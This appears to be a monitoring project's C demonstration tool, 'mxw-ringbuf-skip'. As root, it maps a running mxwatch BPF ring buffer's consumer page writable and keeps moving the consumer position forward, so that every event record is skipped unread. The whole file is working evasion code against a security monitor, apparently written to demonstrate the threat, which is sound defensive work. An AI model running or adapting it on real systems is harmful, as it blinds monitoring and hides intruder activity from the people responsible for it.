// SPDX-License-Identifier: GPL-2.0-only
// mxw-ringbuf-skip: what a root attacker can do to a running mxwatch's ring
// buffer without touching mxwatch itself. It opens the BPF ring buffer map by id
// (as `bpftool map` does), maps its consumer page writable (the kernel lets any
// holder of the map do so: the page is the consumer's to write) and keeps
// moving the consumer position up to the producer's, so that every record is
// skipped before mxwatch reads it.
//
//   mxw-ringbuf-skip MAP_ID SECONDS
//
// Prints how many times it moved the position and how many bytes it skipped.
#include <bpf/bpf.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

static double now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: mxw-ringbuf-skip MAP_ID SECONDS\n");
		return 2;
	}
	const int fd = bpf_map_get_fd_by_id((unsigned)strtoul(argv[1], NULL, 10));
	if (fd < 0) {
		fprintf(stderr, "mxw-ringbuf-skip: map %s: %s\n", argv[1], strerror(errno));
		return 1;
	}
	const long page = sysconf(_SC_PAGESIZE);
	volatile uint64_t *consumer = mmap(NULL, page, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (consumer == MAP_FAILED) {
		fprintf(stderr, "mxw-ringbuf-skip: mapping the consumer page writable: %s\n", strerror(errno));
		return 1;
	}
	volatile const uint64_t *producer = mmap(NULL, page, PROT_READ, MAP_SHARED, fd, page);
	if (producer == MAP_FAILED) {
		fprintf(stderr, "mxw-ringbuf-skip: mapping the producer page: %s\n", strerror(errno));
		return 1;
	}
	const double end = now_s() + atof(argv[2]);
	unsigned long moves = 0;
	uint64_t skipped = 0;
	while (now_s() < end) {
		const uint64_t p = __atomic_load_n(producer, __ATOMIC_ACQUIRE);
		const uint64_t c = __atomic_load_n(consumer, __ATOMIC_ACQUIRE);
		if (p > c) {
			__atomic_store_n(consumer, p, __ATOMIC_RELEASE);
			moves++;
			skipped += p - c;
		}
		usleep(200);
	}
	printf("moved the consumer position %lu times, %llu bytes skipped\n", moves, (unsigned long long)skipped);
	return 0;
}
